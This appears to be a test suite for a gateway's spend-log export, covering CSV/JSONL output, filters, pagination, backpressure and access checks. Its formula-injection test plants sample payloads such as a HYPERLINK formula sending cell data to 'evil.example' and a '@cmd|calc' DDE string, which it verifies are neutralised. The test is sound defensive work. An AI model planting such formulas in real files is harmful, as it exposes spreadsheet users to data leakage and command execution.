import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { get, type IncomingMessage } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, test } from 'node:test';
import { GatewayError } from '../../src/errors/gateway-error.js';
import type { SpendRecord } from '../../src/spend/spend-record.js';
import type { Store } from '../../src/storage/types.js';
import { authHeaders, fakeProviders, MASTER_KEY, startTestGateway, type TestGateway } from '../helpers/build-app.js';
import { startFakeOpenAI } from '../helpers/fake-openai.js';
import type { FakeUpstream } from '../helpers/fake-upstream.js';
import { call, type Res } from '../helpers/http.js';
import { SHARED_BACKENDS } from '../helpers/shared-store.js';
import { createKey } from '../helpers/vkeys.js';
import { newestFirst, spendRecord } from '../contract/spend-fixture.js';

/**
 * GET /api/spend/logs/export through a running gateway on each backend: every row of the range
 * once and in order across pages, the filters of /api/spend/logs, CSV that parses back (RFC 4180
 * quoting, the formula guard) and JSON lines of the /api/spend/logs row shape; then, on SQLite,
 * the client's pace (backpressure, leaving), store failures, validation and access.
 */

const admin = { authorization: `Bearer ${MASTER_KEY}` };

/** The documented column order (docs/observability.md repeats it; a test below checks). */
const COLUMNS = [
  'id', 'time', 'principal', 'key_id', 'team_id', 'model', 'provider', 'upstream_model', 'operation', 'stream',
  'input_tokens', 'cached_input_tokens', 'output_tokens', 'cost_micros', 'usage_estimated', 'latency_ms', 'ttft_ms',
  'status', 'error_code', 'cache_status', 'saved_cost_micros', 'fallback_chain', 'attempts', 'loop_id', 'loop_step',
  'trace_id', 'mcp', 'guardrails',
];
const NUMBER_COLUMNS = new Set(['time', 'input_tokens', 'cached_input_tokens', 'output_tokens', 'cost_micros', 'latency_ms', 'ttft_ms', 'status', 'saved_cost_micros', 'loop_step']);
const BOOLEAN_COLUMNS = new Set(['stream', 'usage_estimated']);
const JSON_COLUMNS = new Set(['attempts', 'mcp', 'guardrails']);

/** A strict RFC 4180 reader: quotes only around a whole field, CRLF after every record, no bare line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') field += text[i++];
      else quoted = false;
      continue;
    }
    if (c === '"') {
      assert.ok(field === '' && !wasQuoted, `a quote inside an unquoted field at ${i}`);
      quoted = wasQuoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
      wasQuoted = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      wasQuoted = false;
      i++;
    } else {
      assert.ok(c !== '\r' && c !== '\n', `a bare line break outside quotes at ${i}`);
      assert.ok(!wasQuoted, `text after a closing quote at ${i}`);
      field += c;
    }
  }
  assert.ok(!quoted && field === '' && record.length === 0, 'the last record ends with CRLF');
  return records;
}

/** A CSV record back as the JSON row: empty is null (absent for mcp and guardrails), the formula guard's quote removed. */
function rowOfCsv(cells: string[]): Record<string, unknown> {
  assert.equal(cells.length, COLUMNS.length);
  const row: Record<string, unknown> = {};
  COLUMNS.forEach((column, i) => {
    const cell = cells[i]!;
    if (cell === '') {
      if (!JSON_COLUMNS.has(column) || column === 'attempts') row[column] = null;
    } else if (NUMBER_COLUMNS.has(column)) row[column] = Number(cell);
    else if (BOOLEAN_COLUMNS.has(column)) row[column] = cell === 'true';
    else if (JSON_COLUMNS.has(column)) row[column] = JSON.parse(cell);
    else row[column] = /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
  });
  return row;
}

function exportUrl(gw: TestGateway, query: string): string {
  return `${gw.url}/api/spend/logs/export${query ? `?${query}` : ''}`;
}

async function exported(gw: TestGateway, query: string): Promise<Res> {
  const res = await call(exportUrl(gw, query), { headers: admin });
  assert.equal(res.status, 200, res.text);
  return res;
}

async function jsonl(gw: TestGateway, query: string): Promise<SpendRecord[]> {
  const res = await exported(gw, query);
  assert.equal(res.headers['content-type'], 'application/x-ndjson');
  if (res.text === '') return [];
  assert.ok(res.text.endsWith('\n'), 'every line ends with a newline');
  return res.text.slice(0, -1).split('\n').map((line) => JSON.parse(line) as SpendRecord);
}

/** Every row /api/spend/logs returns for the query, following next_cursor to the end. */
async function logged(gw: TestGateway, query: string): Promise<SpendRecord[]> {
  const rows: SpendRecord[] = [];
  let cursor: string | null = null;
  do {
    const res = await call(`${gw.url}/api/spend/logs?limit=1000&${query}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, { headers: admin });
    assert.equal(res.status, 200, res.text);
    rows.push(...res.json.data);
    cursor = res.json.next_cursor;
  } while (cursor);
  return rows;
}

const ids = (rows: Array<{ id: unknown }>) => rows.map((r) => r.id);

/**
 * 2,500 rows 10 ms apart (several export pages), whose values exercise every CSV rule: text with
 * commas, quotes and line breaks, text starting like a formula, negative numbers, nested values.
 */
function bulkRows(base: number): SpendRecord[] {
  return Array.from({ length: 2_500 }, (_, i) =>
    spendRecord({
      id: `bulk-${String(i).padStart(4, '0')}`,
      time: base + i * 10,
      key_id: ['key-a', 'key-b', null][i % 3] ?? null,
      model: `m-${i % 3}`,
      status: [200, 429, 500, 201][i % 4] ?? 200,
      error_code: i % 4 === 1 ? 'rate "limited", say "later"' : i % 4 === 2 ? '=1+2' : null,
      cost_micros: i % 7 === 0 ? -5 : i * 3,
      latency_ms: 10 + i + 0.125,
      fallback_chain: i % 5 === 0 ? 'first line\r\nsecond line' : null,
      upstream_model: i % 6 === 0 ? '+SUM(A1:A9)' : 'gpt-x-2025',
      trace_id: i % 8 === 0 ? '@cmd|calc' : i % 8 === 1 ? '-2+3' : i % 8 === 2 ? '\tTAB' : null,
      attempts: i % 10 === 0 ? [{ provider: 'openai', upstream_model: 'a,"b"', status: 503, error_code: 'upstream_error', latency_ms: 12.5, cost_micros: 0 }] : null,
      ...(i % 13 === 0 ? { operation: 'mcp.call', mcp: { server_id: 'srv', bytes_in: 10, bytes_out: 20 } } : {}),
      ...(i % 11 === 0 ? { guardrails: [{ guardrail: 'pii-mask', stage: 'pre' as const, action: 'mask' as const, categories: ['email'] }] } : {}),
    }),
  );
}

const backends = [{ name: 'SQLite', fresh: () => ({ store: undefined, cleanup: async () => undefined }) }, ...SHARED_BACKENDS];

for (const backend of backends) {
  describe(`spend export on ${backend.name}`, () => {
    let upstream: FakeUpstream;
    let gw: TestGateway;
    let cleanup: () => Promise<void> = async () => undefined;
    let bulk: SpendRecord[];
    let from = 0;
    let to = 0;
    let keyId = '';
    const formulaModel = '=HYPERLINK("http://evil.example/?"&A1,"open")';

    before(async () => {
      upstream = await startFakeOpenAI();
      const fresh = backend.fresh('export');
      cleanup = fresh.cleanup;
      gw = await startTestGateway({
        ...(fresh.store ? { store: fresh.store } : {}),
        providers: fakeProviders({ openai: upstream.url }),
        models: [{ name: 'gpt-test', provider: 'openai', model: 'fake-gpt', input_cost_per_mtok: 1, output_cost_per_mtok: 2 }],
        // Nothing is written on a timer: what the export finds of these requests, it flushed itself.
        spend_log: { flush_interval_ms: 600_000 },
      });
      // Times recent enough for Redis, which bounds its scan by the append time.
      const base = Date.now() - 40_000;
      bulk = bulkRows(base);
      from = base + 1_000;
      to = base + 24_000;
      await gw.gateway.store.appendSpend(bulk);

      const key = await createKey(gw.url, { alias: 'exporter' });
      keyId = key.id;
      const ok = await call(`${gw.url}/v1/chat/completions`, { headers: authHeaders(key.key), body: { model: 'gpt-test', messages: [{ role: 'user', content: 'hello' }] } });
      assert.equal(ok.status, 200, ok.text);
      const notFound = await call(`${gw.url}/v1/chat/completions`, { headers: { ...authHeaders(), 'x-request-id': '-export-formula' }, body: { model: formulaModel, messages: [{ role: 'user', content: 'x' }] } });
      assert.equal(notFound.status, 404, notFound.text);
    });

    after(async () => {
      await gw?.close();
      await upstream?.close();
      await cleanup();
    });

    test('jsonl: every row of [from, to) exactly once, newest first, across pages; the rows /api/spend/logs returns', async () => {
      const rows = await jsonl(gw, `from=${from}&to=${to}&format=jsonl`);
      const expected = newestFirst(bulk.filter((r) => r.time >= from && r.time < to));
      assert.equal(expected.length, 2_300, 'three pages of 1,000');
      assert.deepEqual(ids(rows), ids(expected));
      assert.deepEqual(rows, await logged(gw, `from=${from}&to=${to}`));
    });

    test('the filters of /api/spend/logs select the same rows', async () => {
      const inRange = newestFirst(bulk.filter((r) => r.time >= from && r.time < to));
      const cases: Array<[string, (r: SpendRecord) => boolean]> = [
        ['key=key-a&status=error', (r) => r.key_id === 'key-a' && r.status >= 400],
        ['model=m-2&principal=master', (r) => r.model === 'm-2' && r.principal === 'master'],
        ['status=429', (r) => r.status === 429],
        ['status=success', (r) => r.status < 400],
      ];
      for (const [filter, keep] of cases) {
        const rows = await jsonl(gw, `from=${from}&to=${to}&${filter}`);
        assert.deepEqual(ids(rows), ids(inRange.filter(keep)), filter);
        assert.ok(rows.length > 0, filter);
      }
      const byKey = await jsonl(gw, `key=${keyId}`);
      assert.deepEqual(byKey.map((r) => [r.model, r.status, r.key_id]), [['gpt-test', 200, keyId]], 'the real request made with the key');
    });

    test('the buffered row of a request just made is flushed into the export', async () => {
      const res = await call(`${gw.url}/v1/chat/completions`, { headers: { ...authHeaders(), 'x-request-id': 'just-now' }, body: { model: 'gpt-test', messages: [{ role: 'user', content: 'again' }] } });
      assert.equal(res.status, 200, res.text);
      assert.equal(gw.gateway.spendLog.pending, 1, 'still in the write buffer');
      const rows = await jsonl(gw, 'model=gpt-test');
      assert.equal(rows[0]!.id, 'just-now', 'the newest row');
      assert.ok(rows[0]!.input_tokens > 0 && rows[0]!.cost_micros > 0, 'priced from the upstream usage');
    });

    test('csv: the documented header, RFC 4180 quoting, every row parsing back to its JSON line', async () => {
      const res = await exported(gw, 'format=csv');
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      const [header, ...records] = parseCsv(res.text);
      assert.deepEqual(header, COLUMNS);
      const asJson = await jsonl(gw, '');
      assert.equal(records.length, asJson.length);
      assert.ok(asJson.length >= bulk.length + 2, 'the bulk rows and the requests');
      assert.deepEqual(records.map(rowOfCsv), JSON.parse(JSON.stringify(asJson)));
      // Fields with a quote are quoted and their quotes doubled; line breaks stay inside quotes.
      assert.ok(res.text.includes(',"rate ""limited"", say ""later""",'));
      assert.ok(res.text.includes(',"first line\r\nsecond line",'));
    });

    test('csv: text that a spreadsheet would run as a formula gets a leading quote; numbers never do', async () => {
      const res = await exported(gw, 'format=csv');
      const [header, ...records] = parseCsv(res.text);
      const cell = (record: string[], column: string) => record[header!.indexOf(column)]!;
      const real = records.find((r) => cell(r, 'id') === "'-export-formula");
      assert.ok(real, 'the request id starting with - is guarded');
      assert.equal(cell(real, 'model'), `'${formulaModel}`, 'the model name the client sent, quoted as text');
      assert.equal(cell(real, 'status'), '404');
      const bulkCell = (id: string, column: string) => cell(records.find((r) => cell(r, 'id') === id)!, column);
      assert.equal(bulkCell('bulk-0002', 'error_code'), "'=1+2");
      assert.equal(bulkCell('bulk-0000', 'upstream_model'), "'+SUM(A1:A9)");
      assert.equal(bulkCell('bulk-0000', 'trace_id'), "'@cmd|calc");
      assert.equal(bulkCell('bulk-0001', 'trace_id'), "'-2+3");
      assert.equal(bulkCell('bulk-0002', 'trace_id'), "'\tTAB");
      assert.equal(bulkCell('bulk-0007', 'cost_micros'), '-5', 'a negative number stays a number');
      for (const record of records) {
        for (const [i, value] of record.entries()) {
          if (!NUMBER_COLUMNS.has(COLUMNS[i]!)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${COLUMNS[i]} of ${record[0]}`);
        }
      }
    });
  });
}

describe('spend export: the request and the response', () => {
  let gw: TestGateway;
  let store: Store;
  const base = Date.now() - 60_000;

  before(async () => {
    gw = await startTestGateway();
    store = gw.gateway.store;
    await store.appendSpend(Array.from({ length: 30 }, (_, i) => spendRecord({ id: `r-${i}`, time: base + i })));
  });
  after(() => gw?.close());

  test('file name and content type say the range and format; jsonl is the default; to defaults to now', async () => {
    const csv = await exported(gw, 'from=2026-11-01&to=2026-12-01T12:30:00.250Z&format=csv');
    assert.equal(csv.headers['content-disposition'], 'attachment; filename="smartflow-spend-20261101T000000Z-20261201T123000.250Z.csv"');
    assert.equal(csv.headers['cache-control'], 'no-store');
    assert.ok(csv.headers['x-request-id'], 'the gateway headers are kept');
    assert.equal(csv.text, `${COLUMNS.join(',')}\r\n`, 'an empty range is the header alone');
    const all = await exported(gw, '');
    assert.equal(all.headers['content-type'], 'application/x-ndjson');
    assert.match(String(all.headers['content-disposition']), /^attachment; filename="smartflow-spend-19700101T000000Z-\d{8}T\d{6}(\.\d{3})?Z\.jsonl"$/);
    assert.equal(all.text.split('\n').filter(Boolean).length, 30);
  });

  test('bad input: 400 invalid_request naming the parameter, on the export and on /api/spend/logs alike', async () => {
    const bad: Array<[string, string]> = [
      ['from=2026-12-01&to=2026-11-01', 'from'],
      ['from=yesterday', 'from'],
      ['to=99999999999999999', 'to'],
      ['to=9000000000000000', 'to'],
      ['status=maybe', 'status'],
      ['model=', 'model'],
    ];
    for (const path of ['/api/spend/logs/export', '/api/spend/logs']) {
      for (const [query, param] of bad) {
        const res = await call(`${gw.url}${path}?${query}`, { headers: admin });
        assert.equal(res.status, 400, `${path}?${query}: ${res.text}`);
        assert.equal(res.json.error.code, 'invalid_request');
        assert.equal(res.json.error.type, 'invalid_request_error');
        assert.equal(res.json.error.param, param, `${path}?${query}`);
      }
    }
    for (const [query, param] of [['format=xml', 'format'], ['format=CSV', 'format'], ['limit=10', 'limit'], ['cursor=abc', 'cursor']]) {
      const res = await call(exportUrl(gw, query!), { headers: admin });
      assert.equal(res.status, 400, res.text);
      assert.equal(res.json.error.code, 'invalid_request');
      assert.equal(res.json.error.param, param);
    }
  });

  test('401 without a key or with a wrong one; 403 for a virtual key; no rows leak', async () => {
    const none = await call(exportUrl(gw, ''));
    assert.equal(none.status, 401);
    assert.equal(none.json.error.code, 'missing_api_key');
    const wrong = await call(exportUrl(gw, ''), { headers: { authorization: 'Bearer sk-not-a-key' } });
    assert.equal(wrong.status, 401);
    assert.equal(wrong.json.error.code, 'invalid_api_key');
    const key = await createKey(gw.url);
    const forbidden = await call(exportUrl(gw, 'format=csv'), { headers: { authorization: `Bearer ${key.key}` } });
    assert.equal(forbidden.status, 403);
    assert.equal(forbidden.json.error.code, 'forbidden');
    for (const res of [none, wrong, forbidden]) assert.ok(!res.text.includes('r-1'), 'no rows');
    const head = await call(exportUrl(gw, ''), { method: 'HEAD', headers: admin });
    assert.equal(head.status, 405, 'GET only: a HEAD would read the whole range for a body nobody gets');
    assert.equal(head.headers.allow, 'GET');
  });

  test('the store failing before the first row: the mapped error; after rows went out: the response is cut, a warning logged, the gateway unharmed', async (t) => {
    const querySpend = store.querySpend;
    t.after(() => {
      store.querySpend = querySpend;
    });
    store.querySpend = async () => {
      throw new GatewayError('SF_ERR_STORE_UNAVAILABLE');
    };
    const down = await call(exportUrl(gw, 'format=csv'), { headers: admin });
    assert.equal(down.status, 503);
    assert.equal(down.json.error.code, 'store_unavailable');

    let calls = 0;
    store.querySpend = async (query) => {
      calls += 1;
      if (calls > 1) throw new GatewayError('SF_ERR_STORE_UNAVAILABLE');
      // A first page that claims more rows, so the export asks again.
      return { ...(await querySpend(query)), next_cursor: await querySpend({ ...query, limit: 1 }).then((p) => p.next_cursor) };
    };
    await assert.rejects(call(exportUrl(gw, ''), { headers: admin }), 'the client sees an incomplete body, not a whole file');
    for (let i = 0; i < 50 && !gw.logs.text.includes('spend export failed part-way'); i++) await sleep(20);
    const warning = gw.logs.text.split('\n').filter(Boolean).map((l) => JSON.parse(l)).find((l) => l.msg?.startsWith('spend export failed part-way'));
    assert.ok(warning, 'a warning line');
    assert.equal(warning.level, 40);
    assert.equal(warning.rows_sent, 30);
    store.querySpend = querySpend;
    assert.equal((await call(`${gw.url}/health/liveness`)).status, 200);
    assert.equal((await exported(gw, '')).text.split('\n').filter(Boolean).length, 30, 'the next export works');
  });

  test('the CSV columns are the ones docs/observability.md lists', () => {
    const docs = readFileSync(new URL('../../docs/observability.md', import.meta.url), 'utf8');
    assert.ok(docs.includes(COLUMNS.join(',')), 'the header line is in the docs');
  });
});

describe('spend export at the client\'s pace', () => {
  let gw: TestGateway;
  let calls = 0;
  /** Fat rows: 16 pages of about 3 MB, so a client that stops reading fills every socket buffer long before the end. */
  const PAGES = 16;

  before(async () => {
    gw = await startTestGateway();
    const base = Date.now() - 600_000;
    const padding = 'x'.repeat(3_000);
    for (let page = 0; page < PAGES; page++) {
      await gw.gateway.store.appendSpend(Array.from({ length: 1_000 }, (_, i) => spendRecord({ id: `fat-${page}-${i}`, time: base + page * 1_000 + i, trace_id: padding })));
    }
    const querySpend = gw.gateway.store.querySpend;
    gw.gateway.store.querySpend = (query) => {
      calls += 1;
      return querySpend(query);
    };
  });
  after(() => gw?.close());

  function open(): Promise<{ res: IncomingMessage; abort: () => void }> {
    return new Promise((resolve, reject) => {
      const req = get(exportUrl(gw, ''), { headers: admin }, (res) => resolve({ res, abort: () => req.destroy() }));
      req.on('error', reject);
    });
  }

  /** Waits until the export stops asking the store for pages (for 300 ms), and returns the count. */
  async function settledCalls(): Promise<number> {
    let seen = -1;
    for (let i = 0; i < 100 && seen !== calls; i++) {
      seen = calls;
      await sleep(300);
    }
    return calls;
  }

  test('a client that stops reading stops the export (backpressure); reading again resumes it to the end', async () => {
    calls = 0;
    const { res } = await open();
    assert.equal(res.statusCode, 200);
    res.pause();
    const whilePaused = await settledCalls();
    assert.ok(whilePaused < PAGES / 2, `fetched ${whilePaused} of ${PAGES} pages while the client read nothing`);
    let lines = 0;
    res.setEncoding('utf8');
    for await (const chunk of res) lines += (chunk as string).split('\n').length - 1;
    assert.equal(lines, PAGES * 1_000);
    assert.equal(calls, PAGES);
  });

  test('a client that leaves stops the export: no more pages are read, nothing is logged as failed', async () => {
    calls = 0;
    const { res, abort } = await open();
    res.pause();
    const before = await settledCalls();
    abort();
    await sleep(500);
    assert.ok(calls <= before + 1, `${calls - before} pages read after the client left`);
    assert.ok(calls < PAGES);
    assert.ok(!gw.logs.text.includes('spend export failed'), 'leaving is not a failure');
    assert.equal((await call(`${gw.url}/health/liveness`)).status, 200);
  });
});
